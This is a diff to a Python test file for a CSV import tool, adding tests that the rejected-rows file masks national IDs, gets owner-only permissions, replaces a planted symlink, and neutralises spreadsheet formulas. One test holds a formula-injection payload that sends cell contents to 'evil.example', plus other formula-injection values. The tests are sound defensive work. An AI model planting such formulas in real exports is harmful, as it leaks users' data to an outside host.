@@ -1,6 +1,8 @@
 from __future__ import annotations
 
 import csv
+import os
+import stat
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -335,8 +337,76 @@ def test_the_errors_file_lists_rejected_rows_and_imports_once_corrected(core, tm
     assert rejected[0]["subject"] == "طلب إفادة"
 
     rejected[0]["mobile"] = f.OTHER_MOBILE
+    # The ID is masked in the errors file: it is filled in again from the original.
+    assert rejected[0]["national_id"] == "********" + f.NATIONAL_ID[-2:]
+    masked = write_csv(tmp_path / "masked.csv", rejected, columns=[*COLUMNS, "reason"])
+    [error] = import_file(core, masked).errors
+    assert error.reason.startswith("national_id: masked")
+    rejected[0]["national_id"] = f.NATIONAL_ID
     fixed = write_csv(tmp_path / "fixed.csv", rejected, columns=[*COLUMNS, "reason"])
     assert import_file(core, fixed).imported == 1
+
+
+def rejected_rows(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_the_errors_file_holds_no_full_id_and_only_its_owner_reads_it(core, tmp_path):
+    errors = tmp_path / "errors.csv"
+    errors.write_text("an older errors file, world-readable\n")
+    errors.chmod(0o644)
+    old_umask = os.umask(0o022)
+    try:
+        import_file(core, write_csv(tmp_path / "in.csv", [row(mobile="123")]),
+                    errors_path=errors)
+    finally:
+        os.umask(old_umask)
+
+    assert stat.S_IMODE(errors.stat().st_mode) == 0o600
+    content = errors.read_text(encoding="utf-8-sig")
+    assert f.NATIONAL_ID not in content and f.NATIONAL_ID[:8] not in content
+    assert rejected_rows(errors)[0]["national_id"] == "********" + f.NATIONAL_ID[-2:]
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+
+
+def test_a_link_planted_at_the_errors_path_is_replaced_not_followed(core, tmp_path):
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n")
+    errors = tmp_path / "errors.csv"
+    errors.symlink_to(victim)
+
+    import_file(core, write_csv(tmp_path / "in.csv", [row(mobile="123")]),
+                errors_path=errors)
+
+    assert victim.read_text() == "precious\n"
+    assert not errors.is_symlink() and "reason" in errors.read_text(encoding="utf-8-sig")
+
+
+def test_cells_a_spreadsheet_would_run_are_written_inert_and_import_as_they_were(
+        core, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    rows = [row("4471001", subject=formula, applicant_name="@SUM(1+1)", mobile="123"),
+            row("4471002", subject="-2+3", applicant_name="\t=cmd", mobile="+1")]
+    errors = tmp_path / "errors.csv"
+
+    import_file(core, write_csv(tmp_path / "in.csv", rows), errors_path=errors)
+
+    first, second = rejected_rows(errors)
+    assert first["subject"] == "'" + formula
+    assert first["applicant_name"] == "'@SUM(1+1)"
+    assert (second["subject"], second["applicant_name"], second["mobile"]) == \
+        ("'-2+3", "'\t=cmd", "'+1")
+    for cells in (first, second):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for cell in cells.values())
+    # Corrected and imported again, the quote is gone: the values are the file's own.
+    for cells in (first, second):
+        cells.update(national_id=f.NATIONAL_ID, mobile=f.MOBILE)
+    assert import_file(core, write_csv(tmp_path / "fixed.csv", [first, second],
+                                       columns=[*COLUMNS, "reason"])).imported == 2
+    assert transaction(core, "4471001").subject == formula
+    assert transaction(core, "4471002").subject == "-2+3"
 
 
 def test_the_example_file_imports_cleanly_over_the_demo_reference_data(core):
